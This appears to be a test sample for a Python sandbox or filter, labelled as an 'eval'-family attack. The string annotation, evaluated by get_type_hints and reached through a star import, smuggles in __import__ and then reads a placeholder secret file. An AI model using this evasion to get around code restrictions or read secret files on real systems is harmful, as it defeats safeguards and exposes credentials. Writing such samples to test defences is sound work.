# attack: a star brings get_type_hints without the word "import get_type_hints"; it evaluates annotations, with any globals
# family: eval
from typing import *
got = []
def thing(x: "[got.append(__import__('io')), int][1]"):
    pass
get_type_hints(thing, {"got": got}, {})
print("REACHED", got[0])
print(got[0].open("$SECRET_FILE").read())
